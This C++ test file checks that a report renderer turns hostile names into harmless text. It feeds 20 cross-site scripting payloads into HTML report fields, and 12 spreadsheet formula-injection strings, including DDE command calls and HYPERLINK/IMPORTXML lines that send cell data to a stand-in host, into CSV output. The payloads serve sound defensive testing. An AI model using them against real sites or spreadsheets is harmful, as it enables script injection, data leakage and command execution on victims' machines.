// Hostile names in every place of a page: 20 payloads in 6 fields of HTML, 12 formulas in CSV. The
// page holds no element and no attribute that the renderer does not write itself, its text says
// what the name was, and so does what its script reads.
#include <set>

#include "reports/format.hpp"
#include "reports/renderers/csv.hpp"
#include "tests/reports/markup.hpp"
#include "tests/reports/samples.hpp"
#include "tests/support/catch.hpp"

namespace spillway::test {
namespace {

using namespace std::string_literals;

const std::vector<std::string> kPayloads = {
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</ScRiPt ><img src=x onerror=alert(1)>",
    "</title><svg onload=alert(1)>",
    "</style><style>@import 'http://x/';</style>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onfocus='alert(1)' autofocus='",
    "<svg/onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "javascript:alert(1)",
    "<!-- <script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "${alert(1)}`;alert(1);//",
    "a\xe2\x80\xa8\xe2\x80\xa9"
    "b\\\");alert(1);//",
    "nul\0<script>alert(1)</script>"s,
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&lt;script&gt;&#60;script&#62;&#x3c;",
    "x:expression(alert(1));background:url(javascript:alert(1))",
    "\xc0\xbcscript\xc0\xbe\xe2\x80\xae<\x1b[31m\xff</td></table><iframe srcdoc=\"<script>\">",
};

struct Field {
  const char* name;
  void (*put)(Report&, const std::string&);
};

Section& first(Report& report) {
  return report.sections.at(0);
}

const std::vector<Field> kFields = {
    {"title",
     [](Report& r, const std::string& s) {
       r.title = r.subtitle = s;
       first(r).heading = first(r).id = s;
     }},
    {"table",
     [](Report& r, const std::string& s) {
       first(r).tables = {{s, {s, "n"}, {{s, "1"}}, 0}};
     }},
    {"series",
     [](Report& r, const std::string& s) {
       Chart& chart = first(r).charts.at(0);
       chart.title = chart.note = chart.unit = s;
       for (ChartSeries& series : chart.series) series.name = s;
     }},
    {"axis",
     [](Report& r, const std::string& s) {
       Chart& chart = first(r).charts.at(0);
       chart.x_label = chart.y_label = s;
       chart.x_names = {s, s};
       chart.limits = {{s, 1}};
       chart.regions = {{s, 0, 1}};
     }},
    {"code",
     [](Report& r, const std::string& s) {
       first(r).code = {{s, s + "\n" + s}};
     }},
    {"fact",
     [](Report& r, const std::string& s) {
       first(r).facts = {{s, s, s}};
       first(r).paragraphs = {s, "Warning: " + s};
     }},
};

Report plain_report() {
  Report report;
  report.title = "title";
  report.sections.resize(2);
  report.sections[1].heading = "another";
  Section& section = report.sections[0];
  section.heading = "heading";
  Chart& chart = section.charts.emplace_back();
  chart.points = true;
  chart.series = {{"a", {0, 1}, {1, 2}, {0, 1}, {2, 3}}, {"b", {0, 1}, {2, 3}}};
  return report;
}

/// Names of elements, and of their attributes, in a page.
std::set<std::string> vocabulary(const Markup& markup) {
  std::set<std::string> out;
  for (const Element& element : markup.elements) {
    out.insert(element.name);
    for (const auto& [key, value] : element.attributes) out.insert(element.name + " " + key);
  }
  return out;
}

/// What a report with all fields, whose names are harmless, is written with.
const std::set<std::string>& harmless_vocabulary() {
  static const std::set<std::string> out = [] {
    Report report = plain_report();
    for (const Field& field : kFields) field.put(report, "name");
    // Shortened, with a tooltip; and laid out as flags are.
    for (const std::string& name : {std::string(200, 'w'), std::string("--flag")}) {
      for (const Field& field : kFields) field.put(report, name);
    }
    std::set<std::string> words = vocabulary(read_markup(rendered(report, "html")));
    words.insert("text class");  // of names inside stacked bars
    report = plain_report();
    words.merge(vocabulary(read_markup(rendered(report, "html"))));
    return words;
  }();
  return out;
}

/// Every string in a JSON document.
void strings_of(const nlohmann::json& value, std::set<std::string>& out) {
  if (value.is_string()) out.insert(value.get<std::string>());
  for (const auto& each : value.is_structured() ? value : nlohmann::json::array()) {
    strings_of(each, out);
  }
}

void check_inert(const std::string& html, const Markup& markup) {
  CHECK(markup.problem == "");
  for (const std::string& word : vocabulary(markup)) {
    if (!harmless_vocabulary().contains(word)) FAIL_CHECK("the page has: " << word);
  }
  for (const Element& element : markup.elements) {
    for (const auto& [key, value] : element.attributes) {
      if (key.starts_with("on")) FAIL_CHECK("an attribute " << key);
      if (key == "href" || key == "src") CHECK(value.starts_with('#'));
      if (key == "style") FAIL_CHECK("a style attribute");
    }
  }
  CHECK(markup.scripts.size() == 3);
  CHECK(markup.styles.size() == 1);
  CHECK(markup.comments.size() == 1);
  CHECK(html.find('\0') == std::string::npos);
  CHECK(html.find('\x1b') == std::string::npos);
  CHECK(html.find("\xe2\x80\xa8") == std::string::npos);
  CHECK(html.find("\xe2\x80\xae") == std::string::npos);
}

TEST_CASE("120 hostile names in HTML are text", "[reports]") {
  REQUIRE(kPayloads.size() * kFields.size() == 120);
  for (const Field& field : kFields) {
    for (const std::string& payload : kPayloads) {
      INFO(field.name << ": " << printable(payload));
      Report report = plain_report();
      field.put(report, payload);
      const std::string html = rendered(report, "html");
      const Markup markup = read_markup(html);
      check_inert(html, markup);
      CHECK_THAT(markup.text, ContainsSubstring(printable(payload)));
      if (field.name != "series"s && field.name != "axis"s) continue;
      REQUIRE(markup.scripts.size() == 3);
      const std::string& data = markup.scripts[1].second;
      CHECK(data.find_first_of("<>&") == std::string::npos);
      std::set<std::string> strings;
      strings_of(nlohmann::json::parse(data), strings);
      CHECK(strings.contains(printable(payload)));
    }
  }
}

TEST_CASE("hostile names reach no other kind of chart either", "[reports]") {
  for (const std::string& payload : kPayloads) {
    INFO(printable(payload));
    Report report = plain_report();
    auto& charts = first(report).charts;
    Chart tornado;
    tornado.kind = ChartKind::kTornado;
    tornado.bars = {{payload, -1, 1, payload, payload}};
    Chart stacks;
    stacks.kind = ChartKind::kStacks;
    stacks.part_names = {payload, payload};
    stacks.stacks = {{payload, {1, 2}}};
    Chart heatmap;
    heatmap.kind = ChartKind::kHeatmap;
    heatmap.x_names = heatmap.y_names = {payload, payload};
    heatmap.cells = {{1, 2}, {3, 4}};
    Chart scatter = charts.at(0);
    scatter.kind = ChartKind::kScatter;
    for (Chart* chart : {&tornado, &stacks, &heatmap, &scatter}) {
      chart->title = chart->note = chart->x_label = chart->y_label = chart->unit = payload;
      charts.push_back(*chart);
    }
    const std::string html = rendered(report, "html");
    const Markup markup = read_markup(html);
    check_inert(html, markup);
    CHECK(markup.text.find(printable(payload)) != std::string::npos);
  }
}

TEST_CASE("12 formulas in CSV are text", "[reports]") {
  const std::vector<std::string> formulas = {
      "=1+1",
      "=cmd|' /C calc'!A0",
      "+1+cmd|' /C calc'!A0",
      "-1+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "=HYPERLINK(\"http://x/?\"&A1,\"open\")",
      "\t=1+1",
      "\r=1+1",
      "\n=1+1",
      "\0=1+1"s,
      "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")",
      "-(1)",
  };
  REQUIRE(formulas.size() == 12);
  for (const std::string& formula : formulas) {
    INFO(printable(formula));
    const std::string cell = csv_cell(formula);
    const std::size_t start = cell.starts_with('"') ? 1 : 0;
    CHECK(cell[start] == '\'');
    Table table;
    table.title = formula;
    table.header = {formula};
    table.rows = {{formula}};
    const std::string csv = rendered(report_of(table), "csv");
    CHECK(csv == cell + "\r\n" + cell + "\r\n" + cell + "\r\n");
  }
}

TEST_CASE("names in any script stay what they are", "[reports]") {
  for (const char* name :
       {"نص عربي", "漢字かな交じり文", "한국어 이름", "👩‍💻🏳️‍🌈",
        "e\xcc\x81 a\xcc\x8a", "עברית", "ไทย", "Ωmega", "Ж", "हिन्दी"}) {
    INFO(name);
    Report report = plain_report();
    for (const Field& field : kFields) {
      if (field.name != "title"s) field.put(report, name);
    }
    const std::string html = rendered(report, "html");
    const Markup markup = read_markup(html);
    check_inert(html, markup);
    CHECK_THAT(markup.text, ContainsSubstring(name));
    CHECK_THAT(markup.scripts.at(1).second, ContainsSubstring(std::string("\"") + name + "\""));
  }
}

TEST_CASE("bytes that are no text, and marks that turn its order, are replaced", "[reports]") {
  CHECK(printable("\xed\xa0\x80") == "???");       // half of a pair
  CHECK(printable("\xe0\x80\xbc") == "???");       // "<" written too long
  CHECK(printable("\xf4\x90\x80\x80") == "????");  // beyond the last character
  CHECK(printable("\xf0\x8f\xbf\xbf") == "????");  // too long
  CHECK(printable("a\xe2\x80\xae"                  // right to left from here on
                  "gnp.exe") == "a?gnp.exe");
  CHECK(printable("\xe2\x81\xa6\xe2\x81\xa9") == "??");
  CHECK(printable("\xe2\x80\xa8\xe2\x80\xa9") == "??");
  CHECK(printable("\xe2\x80\xa7\xe2\x80\xaf\xe2\x80\x8d") ==
        "\xe2\x80\xa7\xe2\x80\xaf\xe2\x80\x8d");
  CHECK(printable("\xf4\x8f\xbf\xbf\xee\x80\x80") == "\xf4\x8f\xbf\xbf\xee\x80\x80");
}

}  // namespace
}  // namespace spillway::test
